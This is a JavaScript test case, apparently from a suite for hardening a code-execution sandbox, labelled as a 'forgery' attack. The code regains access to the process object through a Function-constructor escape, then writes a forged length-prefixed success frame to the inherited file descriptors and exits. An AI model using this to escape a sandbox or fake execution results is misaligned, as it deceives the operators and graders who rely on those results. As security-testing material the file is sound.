// id: js-n-102 | family: forgery | goal: write a forged frame to the inherited socket, then end
// timeout: 5
const P = globalThis.process || (() => { try { return (() => {}).constructor('return process')(); } catch { return undefined; } })();
const fs = (() => { try { return require('fs'); } catch { } try { return P.getBuiltinModule('fs'); } catch { } })();
const body = Buffer.from(JSON.stringify({ ok: true, result: 'FORGED', stdout: '', stderr: '', error: null, cached: true, execution_time_ms: 424242, FORGED: 1 }));
const head = Buffer.alloc(4); head.writeUInt32BE(body.length);
for (let fd = 0; fd < 20; fd++) try { fs.writeSync(fd, Buffer.concat([head, body])); } catch (e) { }
P?.reallyExit?.(0);
